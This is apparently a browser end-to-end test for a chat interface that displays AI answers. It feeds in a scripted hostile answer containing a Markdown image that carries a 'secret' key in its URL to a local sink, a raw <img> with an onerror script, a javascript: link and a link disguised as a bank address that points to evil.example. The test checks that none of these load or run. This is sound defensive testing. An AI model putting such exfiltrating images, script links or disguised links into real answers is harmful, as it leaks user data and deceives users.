// A hostile answer in Debian's Chromium through serve mode with the fake Anthropic server: a Markdown image and a raw
// <img> aimed at a server on 127.0.0.1 (an image URL is a way to send data out) are never requested, the page's CSP
// refuses the image; a javascript: link is text; a link whose text names another address shows where it goes.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { journey, skip } from './journey.js';

/** Counts every request that reaches it: where a leaked image would land. */
const leaks: string[] = [];
const sink = createServer((req, res) => {
  leaks.push(req.url ?? '');
  res.writeHead(200, { 'content-type': 'image/gif' }).end();
});
await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
after(() => sink.close());
const leak = `http://127.0.0.1:${(sink.address() as { port: number }).port}`;

/** The CSP violations the page reported, by blocked URL (listened for before the window loads). */
const app = journey({
  name: 'hostile',
  beforeLoad: async (page) => {
    await page.addInitScript(`
      window.cspBlocked = [];
      document.addEventListener('securitypolicyviolation', (e) => window.cspBlocked.push(e.effectiveDirective + ' ' + e.blockedURI));
    `);
  },
  ready: ({ page }) => page.getByRole('textbox', { name: 'Message' }).waitFor({ timeout: 60_000 }),
});

test(
  'an answer with images aimed elsewhere loads none; script links are text; a disguised link shows its host',
  { skip },
  async () => {
    const { page, server } = app;
    server.script({
      text: [
        `Here is the chart: ![chart](${leak}/md.png?key=SECRET-FROM-ANSWER)`,
        `<img src="${leak}/raw.png?key=SECRET" onerror="document.title='pwned'">`,
        '[run this](javascript:document.title="pwned")',
        '[https://bank.example/login](https://evil.example/phish)',
        'END-OF-ANSWER',
      ].join('\n\n'),
    });
    await page.getByRole('textbox', { name: 'Message' }).fill('show me the chart');
    await page.keyboard.press('Enter');
    const log = page.getByRole('log', { name: 'Conversation' });
    await log.getByText('END-OF-ANSWER').waitFor({ timeout: 60_000 });
    // The Markdown image is in the page and the browser refused to load it: the CSP said so.
    await app.until(async () =>
      ((await page.evaluate('window.cspBlocked')) as string[]).some((v) => v.startsWith(`img-src ${leak}/md.png`)),
    );
    assert.deepEqual(leaks, [], 'no request reached the image server');
    // The raw <img> is text, never an element; nothing ran.
    assert.equal(await log.locator(`img[src^="${leak}/raw"]`).count(), 0);
    assert.match((await log.textContent()) ?? '', /<img src=/);
    assert.notEqual(await page.title(), 'pwned');
    assert.equal(await log.locator('a[href^="javascript:"]').count(), 0);
    assert.ok(((await log.textContent()) ?? '').includes('run this'));
    // The disguised link shows the host it goes to.
    const bank = log.getByRole('link', { name: 'https://bank.example/login' });
    assert.equal(await bank.getAttribute('href'), 'https://evil.example/phish');
    assert.equal(await bank.getAttribute('title'), 'https://evil.example/phish');
    assert.ok(((await log.textContent()) ?? '').includes('https://bank.example/login (evil.example)'));
  },
);
